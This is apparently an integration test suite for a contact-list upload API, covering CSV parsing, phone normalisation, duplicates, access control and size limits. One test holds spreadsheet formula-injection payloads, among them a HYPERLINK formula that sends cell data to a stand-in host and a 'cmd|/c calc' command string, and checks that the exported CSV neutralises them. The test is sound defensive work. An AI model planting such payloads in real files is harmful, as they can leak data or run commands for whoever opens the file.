/** Contact lists: real multipart uploads to the running API, checked through the API and the database. */
import { randomUUID } from 'node:crypto';
import { adminToken, apiUrl, call, createUser, expectProblem } from '../support/api';
import {
  allContacts,
  imported,
  uploadContacts,
  userToken,
  withDatabase,
  type ContactPage,
  type Page,
  type Report,
} from '../support/contact-lists';
import { startExtraApi } from '../support/extra-api';

describe('contact list import', () => {
  it('reads a CSV with header, ";" delimiter and extra columns, kept as variables', async () => {
    const { id: ownerId, token } = await userToken();
    const csv =
      'Name;Telefon;Stadt;Kunde Nr\r\nAnn Lee;+49 30 1234567;Berlin;7\r\nBöb Roe;+33 6 12 34 56 78;Paris;8\r\n';
    const report = await imported(token, csv, { name: 'Kunden' });
    expect(report).toMatchObject({
      name: 'Kunden',
      ownerId,
      status: 'ready',
      totalRows: 2,
      imported: 2,
      duplicates: 0,
      invalid: 0,
      invalidSample: [],
      format: {
        delimiter: ';',
        hasHeader: true,
        encoding: 'utf8',
        phoneColumn: 'Telefon',
        nameColumn: 'Name',
        variables: ['Stadt', 'Kunde Nr'],
      },
    });
    expect(await allContacts(token, report.id, 100)).toEqual([
      { line: 2, phone: '+49301234567', name: 'Ann Lee', variables: { Stadt: 'Berlin', 'Kunde Nr': '7' } },
      { line: 3, phone: '+33612345678', name: 'Böb Roe', variables: { Stadt: 'Paris', 'Kunde Nr': '8' } },
    ]);
  });

  it('reads a plain list, one number per line, named after the file', async () => {
    const { token } = await userToken();
    const res = await uploadContacts(
      token,
      '+49 30 111111\n\n0049 40 222222\n+1 212 555 0123\n+49 7158 1067372358\n',
      {},
      {
        fileName: 'hotline.txt',
      },
    );
    expect(res.status).toBe(201);
    const report = (await res.json()) as Report;
    expect(report).toMatchObject({ name: 'hotline', totalRows: 4, imported: 4, invalid: 0 });
    expect(report.format).toMatchObject({ delimiter: null, hasHeader: false, variables: [] });
    expect((await allContacts(token, report.id, 10)).map((c) => [c.line, c.phone, c.name])).toEqual([
      [1, '+4930111111', null],
      [3, '+4940222222', null],
      [4, '+12125550123', null],
      [5, '+4971581067372358', null], // longer than E.164's 15 digits, yet valid for libphonenumber
    ]);
  });

  it('applies the default country to national numbers only', async () => {
    const { token } = await userToken();
    const list = 'phone\n030 1234567\n+44 20 7946 0018\n0612345678\n';
    const withCountry = await imported(token, list, { defaultCountry: 'de' });
    expect(withCountry).toMatchObject({ defaultCountry: 'DE', imported: 3, invalid: 0 });
    expect((await allContacts(token, withCountry.id, 10)).map((c) => c.phone)).toEqual([
      '+49301234567',
      '+442079460018',
      '+49612345678',
    ]);
    const without = await imported(token, list);
    expect(without).toMatchObject({ defaultCountry: null, imported: 1, invalid: 2 });
    expect(without.invalidSample).toEqual([
      { line: 2, raw: '030 1234567', reason: 'missing-country' },
      { line: 4, raw: '0612345678', reason: 'missing-country' },
    ]);
  });

  it('reports duplicates and junk with exact counts and line numbers, and the full invalid list as CSV', async () => {
    const { token } = await userToken();
    const csv = [
      'name,phone', // 1
      'Ann,+49 30 1111111', // 2
      'Bob,n/a', // 3
      'Cy,030 1111111', // 4: duplicate of line 2
      '', // 5: blank, not a row
      'Di,12', // 6
      'Ed,"+49 30 2222222"', // 7
      'Flo,', // 8
      'Gil,+49 (0)30 2222222', // 9: duplicate of line 7
      'Hal,"junk, with ""quotes"""', // 10
    ].join('\n');
    const report = await imported(token, csv, { defaultCountry: 'DE' });
    expect(report).toMatchObject({ totalRows: 8, imported: 2, duplicates: 2, invalid: 4 });
    const expectedInvalid = [
      { line: 3, raw: 'n/a', reason: 'not-a-number' },
      { line: 6, raw: '12', reason: 'too-short' },
      { line: 8, raw: '', reason: 'empty' },
      { line: 10, raw: 'junk, with "quotes"', reason: 'not-a-number' },
    ];
    expect(report.invalidSample).toEqual(expectedInvalid);
    expect((await allContacts(token, report.id, 10)).map((c) => [c.line, c.name])).toEqual([
      [2, 'Ann'],
      [7, 'Ed'],
    ]);

    const download = await call('GET', `/api/v1/contact-lists/${report.id}/invalid`, { token });
    expect(download.status).toBe(200);
    expect(download.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(download.headers.get('content-disposition')).toMatch(/^attachment; filename=".+-invalid\.csv"$/);
    expect(await download.text()).toBe(
      'line,raw,reason\n3,"n/a",not-a-number\n6,"12",too-short\n8,"",empty\n10,"junk, with ""quotes""",not-a-number\n',
    );
  });

  it('makes the invalid-lines CSV inert in a spreadsheet: formula-like cells start with a quote (F24)', async () => {
    const { token } = await userToken();
    const hostile = [
      '=HYPERLINK("https://evil.example/?"&A1,"Fix")',
      '+1 (0) cmd|/c calc',
      '-2+3',
      '@SUM(A1:A2)',
      '\t=1+1',
      'x=1', // not at the start: left alone
    ];
    const quoted = (s: string) => `"${s.replaceAll('"', '""')}"`;
    const csv = `name,phone\n${hostile.map((h, i) => `n${i},${quoted(h)}`).join('\n')}\n`;
    const report = await imported(token, csv);
    expect(report).toMatchObject({ imported: 0, invalid: hostile.length });
    // The JSON report keeps the text exactly as uploaded.
    expect(report.invalidSample.map((s) => s.raw)).toEqual(hostile);

    const download = await call('GET', `/api/v1/contact-lists/${report.id}/invalid`, { token });
    expect(download.status).toBe(200);
    const [header, ...rows] = (await download.text()).trimEnd().split('\n');
    expect(header).toBe('line,raw,reason');
    // Each row is `line,"raw",reason`; the reason is the phone parser's, not the point here.
    expect(rows.map((r) => r.replace(/,[a-z-]+$/, ''))).toEqual([
      `2,"'=HYPERLINK(""https://evil.example/?""&A1,""Fix"")"`,
      `3,"'+1 (0) cmd|/c calc"`,
      `4,"'-2+3"`,
      `5,"'@SUM(A1:A2)"`,
      `6,"'\t=1+1"`,
      `7,"x=1"`,
    ]);
  });

  it('pages through every contact exactly once, in file order, across pieces handled by several workers', async () => {
    const { token } = await userToken();
    // About 1 MB: four pieces of 256 KB, spread over the workers.
    const total = 36_000;
    const rows = Array.from({ length: total }, (_, i) => `+49 30 ${3000000 + i},Person ${i}`);
    rows[total - 1] = rows[10]!; // one duplicate at the end, in another piece: the first occurrence wins
    const report = await imported(token, `phone,name\n${rows.join('\n')}\n`);
    expect(report).toMatchObject({ totalRows: total, imported: total - 1, duplicates: 1, invalid: 0 });
    const contacts = await allContacts(token, report.id, 1000);
    expect(contacts).toHaveLength(total - 1);
    expect(contacts.map((c) => c.line)).toEqual(Array.from({ length: total - 1 }, (_, i) => i + 2));
    expect(contacts[10]).toMatchObject({ phone: '+49303000010', name: 'Person 10' });
    expect(new Set(contacts.map((c) => c.phone)).size).toBe(total - 1);
    // Small pages agree with large ones.
    const first = (await (
      await call('GET', `/api/v1/contact-lists/${report.id}/contacts?limit=7`, { token })
    ).json()) as ContactPage;
    const second = (await (
      await call('GET', `/api/v1/contact-lists/${report.id}/contacts?limit=7&after=${first.nextCursor}`, { token })
    ).json()) as ContactPage;
    expect([...first.items, ...second.items]).toEqual(contacts.slice(0, 14));
  });

  it('decodes a Latin-1 file', async () => {
    const { token } = await userToken();
    const report = await imported(token, Buffer.from('nom;téléphone\nRenée;+33 6 12 34 56 78\n', 'latin1'));
    expect(report.format).toMatchObject({ encoding: 'latin1', phoneColumn: 'téléphone', nameColumn: 'nom' });
    expect((await allContacts(token, report.id, 10))[0]?.name).toBe('Renée');
  });
});

describe('contact list resources', () => {
  it('are visible to their owner and administrators only; delete removes the contacts', async () => {
    const owner = await userToken();
    const other = await userToken();
    const report = await imported(owner.token, 'phone\n+49 30 1234567\n+49 30 7654321\n');
    const base = `/api/v1/contact-lists/${report.id}`;

    for (const path of [base, `${base}/contacts`, `${base}/invalid`]) {
      await expectProblem(await call('GET', path, { token: other.token }), 404, 'not-found');
    }
    await expectProblem(await call('DELETE', base, { token: other.token }), 404, 'not-found');
    const othersLists = (await (await call('GET', '/api/v1/contact-lists', { token: other.token })).json()) as Page;
    expect(othersLists).toEqual({ items: [] });

    const ownLists = (await (await call('GET', '/api/v1/contact-lists', { token: owner.token })).json()) as Page;
    expect(ownLists).toEqual({ items: [expect.objectContaining({ id: report.id, imported: 2, invalid: 0 })] });
    const admin = await adminToken();
    expect(await (await call('GET', base, { token: admin })).json()).toMatchObject({ id: report.id, totalRows: 2 });
    const adminLists = (await (await call('GET', '/api/v1/contact-lists?limit=200', { token: admin })).json()) as Page;
    expect(adminLists.items.map((l) => l.id)).toContain(report.id);

    expect((await call('DELETE', base, { token: owner.token })).status).toBe(204);
    await expectProblem(await call('GET', base, { token: owner.token }), 404, 'not-found');
    const left = await withDatabase(async (db) => {
      const { rows } = await db.query<{ n: string }>('SELECT count(*) AS n FROM contact WHERE list_id = $1', [
        report.id,
      ]);
      return Number(rows[0]?.n);
    });
    expect(left).toBe(0);
  });

  it('answers 404 for an unknown or malformed id and 422 for a bad cursor or limit', async () => {
    const { token } = await userToken();
    await expectProblem(await call('GET', `/api/v1/contact-lists/${randomUUID()}`, { token }), 404, 'not-found');
    await expectProblem(await call('GET', '/api/v1/contact-lists/not-a-uuid', { token }), 422, 'validation-error');
    const report = await imported(token, 'phone\n+49 30 1234567\n');
    const contacts = `/api/v1/contact-lists/${report.id}/contacts`;
    await expectProblem(await call('GET', `${contacts}?after=bogus`, { token }), 422, 'validation-error');
    await expectProblem(await call('GET', `${contacts}?limit=1001`, { token }), 422, 'validation-error');
    await expectProblem(await call('GET', `${contacts}?limit=0`, { token }), 422, 'validation-error');
  });
});

describe('contact list refusals', () => {
  it('names each bad option', async () => {
    const { token } = await userToken();
    const res = await uploadContacts(token, 'phone\n+4930111\n', {
      defaultCountry: 'XX',
      delimiter: 'x',
      hasHeader: 'maybe',
    });
    const body = await expectProblem(res, 422, 'validation-error');
    expect((body.errors as { field: string }[]).map((e) => e.field).sort()).toEqual([
      'body.defaultCountry',
      'body.delimiter',
      'body.hasHeader',
    ]);
  });

  it.each([
    [
      'an unknown column, listing the header',
      'phone,name\n+4930111,Ann\n',
      { nameColumn: 'surname' },
      'nameColumn',
      'phone, name',
    ],
    [
      'a file without a detectable phone column, saying which headers it saw',
      'first;last;city\nAnn;Lee;Berlin\nBob;Roe;Paris\n',
      { hasHeader: 'true' },
      'phoneColumn',
      'first, last, city',
    ],
  ])('refuses %s', async (_what, content, fields, field, seen) => {
    const { token } = await userToken();
    const body = await expectProblem(await uploadContacts(token, content, fields), 422, 'validation-error');
    expect(body.errors).toEqual([{ field: `body.${field}`, message: expect.stringContaining(seen) }]);
  });

  it('refuses an empty file, a header without rows and a missing file', async () => {
    const { token } = await userToken();
    await expectProblem(await uploadContacts(token, ''), 422, 'invalid-contact-file');
    await expectProblem(await uploadContacts(token, '\n\n'), 422, 'invalid-contact-file');
    await expectProblem(await uploadContacts(token, 'phone\n'), 422, 'invalid-contact-file');
    const form = new FormData();
    form.append('name', 'no file');
    const res = await fetch(`${apiUrl()}/api/v1/contact-lists`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}` },
      body: form,
    });
    await expectProblem(res, 422, 'validation-error');
    const lists = (await (await call('GET', '/api/v1/contact-lists', { token })).json()) as Page;
    expect(lists).toEqual({ items: [] });
  });

  it('answers 413 beyond the contact list limit and beyond the upload limit', async () => {
    const api = await startExtraApi({ CONTACTS_MAX_UPLOAD_BYTES: '2000', UPLOAD_MAX_BYTES: '10000' });
    try {
      const user = await createUser();
      const res = await fetch(`${api.url}/oauth/token`, {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({
          grant_type: 'password',
          client_id: 'voicecast',
          username: user.username,
          password: user.password,
        }),
      });
      const { access_token: token } = (await res.json()) as { access_token: string };
      const row = '+49 30 1234567\n';
      const ok = await uploadContacts(token, row.repeat(100), {}, { baseUrl: api.url });
      expect(ok.status).toBe(201);
      const overList = await uploadContacts(token, row.repeat(200), {}, { baseUrl: api.url });
      await expectProblem(overList, 413, 'payload-too-large');
      const overUpload = await uploadContacts(token, row.repeat(1000), {}, { baseUrl: api.url });
      await expectProblem(overUpload, 413, 'payload-too-large');
    } finally {
      await api.stop();
    }
  });
});
